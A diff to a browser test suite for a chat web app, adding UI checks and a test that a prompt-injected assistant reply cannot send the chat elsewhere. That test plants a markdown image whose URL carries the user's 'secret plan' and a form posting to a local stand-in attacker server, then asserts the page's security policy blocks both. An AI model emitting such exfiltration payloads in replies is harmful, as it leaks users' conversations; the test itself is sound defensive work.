@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import dataclasses
 import os
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -118,7 +119,7 @@ def test_type_stream_stop_reload(open_page: Any, long_engine: Engine, make_app: 
 
     # A reply of up to 2,000 tokens from the slow engine (20 s or more): it cannot end before
     # Stop even if the page freezes for seconds while it renders random text.
-    app.settings = dataclasses.replace(app.settings, sampling=LONGEST)
+    app.update_settings(sampling=LONGEST)
     page.evaluate(STOP_WHEN_GROWING, page.locator("#chatbot .bot").count())
     box.fill("Write a short poem about the sea and the stars.")
     box.press("Enter")
@@ -165,6 +166,8 @@ def test_page_follows_the_browser_language(open_page: Any, app: App) -> None:
     page.get_by_role("tab", name="设置").click()
     expect(page.get_by_role("button", name="应用并重新加载")).to_be_visible()
     expect(page.get_by_text("温度", exact=True)).to_be_visible()
+    # Each sampling field says which default it follows: the tiny model's own temperature is 0.9.
+    expect(page.get_by_text("模型默认：0.9").first).to_be_visible()
     shot(page, "06-chinese-settings")
 
     # An error raised in Python arrives in Chinese as well.
@@ -239,3 +242,63 @@ def test_enter_while_a_reply_streams_keeps_the_new_text(open_page: Any, long_eng
     page.locator("#stop").click()
     assert wait_until(lambda: long_engine.num_unfinished_requests() == 0, timeout=10), "Stop did not abort"
     shot(page, "11-sent-while-streaming")
+
+
+class Listener:
+    """A web server on another loopback port, standing for the attacker's: counts what reaches it."""
+
+    def __init__(self) -> None:
+        import http.server
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_a_reply_cannot_send_the_chat_to_another_server(open_page: Any, app: App) -> None:
+    """A prompt-injected reply with an image and a form pointing elsewhere: nothing leaves the page,
+    while the page's own rendering (math, code highlighting) still works under the policy."""
+    listener = Listener()
+    try:
+        conv = app.conversations.create("Injected")
+        app.conversations.add_message(conv.id, "user", "my secret plan")
+        app.conversations.add_message(conv.id, "assistant", (
+            f"Here it is ![x]({listener.url}/img?d=my+secret+plan)\n\n"
+            f'<form action="{listener.url}/form" method="post"><button id="evil">Continue</button></form>\n\n'
+            "$$x^2 + y^2$$\n\n```python\nprint('hello')\n```\n"
+        ))
+        page = open_page(app)
+        violations: list[str] = []
+        page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
+        page.reload()
+        chat = page.locator("#chatbot")
+        expect(chat.get_by_text("Here it is")).to_be_visible()
+        expect(chat.locator(".katex").first).to_be_visible()
+        expect(chat.locator("pre code").first).to_contain_text("print")
+        evil = chat.locator("#evil")
+        if evil.count():
+            evil.click()
+        page.wait_for_timeout(1500)
+        shot(page, "12-injected-reply")
+        assert listener.hits == []
+        # Only the attacker's address was blocked: none of the page's own resources.
+        assert all(listener.url in v or "form-action" in v for v in violations), violations
+    finally:
+        listener.close()
